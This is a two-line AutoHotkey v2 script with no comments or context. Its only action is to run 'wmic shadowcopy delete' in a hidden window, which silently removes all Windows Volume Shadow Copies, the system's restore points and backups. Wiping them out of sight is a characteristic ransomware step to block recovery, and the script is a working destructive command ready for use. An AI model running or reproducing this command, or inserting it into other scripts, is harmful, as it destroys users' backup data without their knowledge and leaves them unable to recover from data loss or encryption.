#Requires AutoHotkey v2.0
Run("wmic shadowcopy delete", , "Hide")
